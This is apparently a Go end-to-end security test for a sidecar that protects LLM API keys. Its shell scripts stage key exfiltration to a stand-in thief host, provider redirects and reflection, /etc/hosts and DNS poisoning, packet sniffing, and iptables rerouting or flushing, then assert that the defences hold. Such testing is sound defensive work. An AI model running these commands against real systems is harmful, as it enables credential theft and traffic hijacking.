//go:build linux

package e2e

import (
	"fmt"
	"strings"
	"testing"

	"remora.dev/remora/test/llmserver"
)

// planting shows that what is sent to the thief's server, and asked of the bank without a sidecar, is seen in their records.
func (h *heist) planting(t *testing.T) {
	h.run(t, asRoot, `
curl --silent http://`+thiefHost+`/planted-in-plain --data `+canary+`
curl --silent --insecure https://`+thiefHost+`/planted-in-tls --data `+canary+`
curl --silent --insecure --request DELETE https://`+bankHost+`/v1/models/`+canary+`
curl --silent --insecure --request DELETE https://`+nginxHost+`/v1/models/`+canary)
	h.intercepted(t, "what is sent to the thief is seen", "planted-in-plain.*"+canary, "planted-in-tls.*"+canary)
}

// reflected has a provider tell back what it received.
func (h *heist) reflected(t *testing.T) {
	// What the app sent itself must come back, or nothing was reflected.
	call := func(fault, more, data string) string {
		return `curl --silent --show-error --include --max-time 60 http://` + bankHost + `/v1/chat/completions --header 'X-Planted: ` + canary + `' --header '` +
			llmserver.FaultHeader + `: ` + fault + `' ` + more + ` --data '` + data + `'`
	}
	streaming := strings.Replace(question("of a reflection"), "{", `{"stream":true,`, 1)
	var all []attempt
	for name, script := range map[string]string{
		"headers and an answer":                call("reflect", "", question("of a reflection")),
		"an answer in chunks":                  call("reflect chunked", "", question("of a reflection")),
		"the error of a refused key":           call("reflect status=401", "", question("of a reflection")),
		"the error of a refused key in chunks": call("reflect chunked status=403", "", question("of a reflection")),
		"an error of the server":               call("reflect status=500", "", question("of a reflection")),
		"a bad request":                        call("reflect status=400", "", question("of a reflection")),
		"the events of a stream":               call("reflect", "--no-buffer", streaming),
		"halved events of a stream":            call("reflect split", "--no-buffer", streaming),
		"a redirect":                           call("reflect redirect=http://"+thiefHost+"/reflected", "", question("of a reflection")),
		"the list of models":                   `curl --silent --include --max-time 60 http://` + bankHost + `/v1/models --header 'X-Planted: ` + canary + `' --header '` + llmserver.FaultHeader + `: reflect'`,
	} {
		all = append(all, attempt{name: "has a provider reflect the key, in " + name, script: script, says: []string{canary}})
	}
	h.try(t, all)
	socket := "GET /v1/realtime?model=small HTTP/1.1\r\nHost: " + bankHost + "\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Planted: " + canary + "\r\n" + llmserver.FaultHeader + ": reflect\r\n\r\n" + farewell
	h.judge(t, "root/has a provider reflect the key, in the upgrade to a WebSocket", string(h.say(t, asRoot, []sent{{To: h.bankIP + ":80", Text: []byte(socket)}})[0]), " 101 .*"+canary)
}

// led leads the app elsewhere: by a redirect, and by calling the provider at the thief's address.
func (h *heist) led(t *testing.T) {
	redirect := func(status, to string) string {
		return `curl --silent --show-error --include --max-time 60 --insecure --location-trusted --header 'X-Planted: ` + canary + `' http://` + bankHost + `/v1/chat/completions --header '` +
			llmserver.FaultHeader + `: redirect=` + to + `' --data '` + question("of a redirect") + `'`
	}
	h.try(t, []attempt{
		{name: "has the provider redirect to the thief", script: redirect("307", "http://"+thiefHost+"/redirected-in-plain"), says: []string{"307", "Location: http://" + thiefHost}},
		{name: "has the provider redirect to the thief with TLS", script: redirect("307", "https://"+thiefHost+"/redirected-in-tls"), says: []string{"307", "Location: https://" + thiefHost}},
		{name: "has the provider redirect to its files", script: redirect("307", "http://"+bankHost+"/v1/files"), says: []string{"307", " 404 "}},
		{name: "calls the provider at the thief's address", says: []string{"200$"},
			script: curlChat + bankHost + ` --connect-to ` + bankHost + `:80:$THIEF:80 --data '` + question("at another address") + `'`},
		{name: "calls the provider at the thief's address by its IP", says: []string{`\d\d\d$`},
			script: curlChat + `$THIEF/v1/chat/completions --header 'Host: ` + bankHost + `' --data '` + question("at another address") + `'`},
		{name: "calls the provider through the thief as a proxy", says: []string{`\d\d\d$`},
			script: curlChat + bankHost + ` --proxy http://$THIEF:80 --data '` + question("through a proxy") + `'`},
		{name: "speaks HTTP/2 at once", script: curlChat + bankHost + `/v1/files --http2-prior-knowledge; curl --silent --http2 ` + bankHost + `/v1/files`, says: []string{`\d\d\d`}},
	})
	h.intercepted(t, "the thief's server received redirected calls without a key", "/redirected-in-plain.*X-Planted: "+canary, "/redirected-in-tls.*X-Planted: "+canary)
}

// poisoned has the provider's name lead to the thief: in the hosts file that all containers of a pod share, and by a DNS that the
// resolv.conf which they share names. The servers that it leads to have a good certificate of another name, and one of the right name
// that nobody trusts.
func (h *heist) poisoned(t *testing.T) {
	forger := strings.TrimSpace(kubectl(t, "-n", heistThief, "get", "service", "forger", "-o", "jsonpath={.spec.clusterIP}"))
	// A sidecar reads both files some seconds after they were changed.
	until := func(word, host, words string) string {
		return `for i in $(seq 60); do
  ` + curlChat + host + ` --connect-to ` + host + `:80:$BANK:80 --data '` + question(words) + `' >called 2>&1
  grep -q '` + word + `' called && break
  sleep 1
done
cat called
`
	}
	for _, server := range []struct{ name, address, says string }{
		{"a good certificate of another name", h.thiefIP, "is for another name"},
		{"a forged certificate of the right name", forger, "is not trusted"},
	} {
		h.judge(t, "root/leads the provider's name elsewhere by /etc/hosts, to "+server.name, h.run(t, asRoot, `
cat /etc/hosts >hosts
echo "`+server.address+` `+hostsHost+`" >>/etc/hosts
curl --silent --insecure https://`+hostsHost+`/poisoned-hosts --data `+canary+`
`+until(server.says, hostsHost, "of poisoned hosts")+`
cat hosts >/etc/hosts`), server.says+".*UntrustedCertificate.*502")
		h.judge(t, "root/leads the provider's name elsewhere by DNS, to "+server.name, h.run(t, asRoot, `
cat /etc/resolv.conf >resolv
cat >poisoned.sh <<'END'
echo nameserver 127.0.0.1 >/etc/resolv.conf
curl --silent --insecure https://`+dnsHost+`/poisoned-dns --data `+canary+`
`+until(server.says, dnsHost, "of a poisoned DNS")+`
END
hostile dns `+server.address+` sh poisoned.sh
cat resolv >/etc/resolv.conf`), "asked for "+dnsHost, server.says+".*UntrustedCertificate.*502")
	}
	// Without TLS the same succeeds, as allowInsecureKey says.
	h.run(t, asRoot, `
cat /etc/hosts >hosts
echo "$THIEF `+plainHost+`" >>/etc/hosts
`+until("200$", plainHost, "of the open one")+`
cat hosts >/etc/hosts`)
	h.intercepted(t, "the thief's server received calls of the app itself, and the one key that may travel in plain text", "/poisoned-hosts.*"+canary, "/poisoned-dns.*"+canary, h.open)
	h.judge(t, "other/writes /etc/hosts and /etc/resolv.conf", h.run(t, asOther, `(echo "$THIEF `+bankHost+`" >>/etc/hosts) 2>&1; (echo nameserver $THIEF >/etc/resolv.conf) 2>&1`),
		`hosts: Permission denied.*resolv.conf: Permission denied`)
}

// captured looks at every packet of the pod while a key is sent. It sees prompts, which the app sends in plain text, and TLS.
func (h *heist) captured(t *testing.T) {
	packets := h.run(t, asRoot, `hostile sniff sh -c "`+strings.ReplaceAll(curlChat+bankHost+` --data '`+question("of the captured")+`'; curl --silent http://`+bankHost+`/v1/models`, `"`, `\"`)+`"`)
	h.judge(t, "root/captures the packets of the pod", packets, "captured [0-9]{4}", "of the captured", "\x17\x03\x03")
	open := h.run(t, asRoot, `hostile sniff sh -c "`+strings.ReplaceAll(curlChat+openHost+` --data '`+question("of the captured")+`'`, `"`, `\"`)+`"`)
	if !strings.Contains(open, h.open) {
		t.Errorf("a key that travels in plain text is not among the packets: that one which does not is absent means nothing")
	}
}

// powerful are attempts of a container with NET_ADMIN, which may lead the sidecar's own connections elsewhere, and have the app's go round it.
func (h *heist) powerful(t *testing.T) {
	chat := curlChat + routedHost + ` --connect-to ` + routedHost + `:80:$BANK:80 --data '` + question("of a rule") + `'`
	h.judge(t, "admin/leads the sidecar's connections to the thief by iptables", h.run(t, asAdmin, fmt.Sprintf(`
echo "$BANK %s" >>/etc/hosts
rule="OUTPUT -p tcp --dport 443 -m owner --uid-owner 14001 -j DNAT --to-destination $THIEF:443"
iptables-nft -t nat -I $rule 2>&1
%s
iptables-nft -t nat -D $rule 2>&1`, routedHost, chat)), "UntrustedCertificate.*502")
	h.judge(t, "admin/empties the rules of the redirection with NET_ADMIN", h.run(t, asAdmin, `
for table in nat filter; do iptables-nft -t $table -F; iptables-legacy -t $table -F; done 2>&1
`+curlChat+bankHost+` --data '`+question("of a flush")+`'`), "You didn't provide an API key.*401$")
}
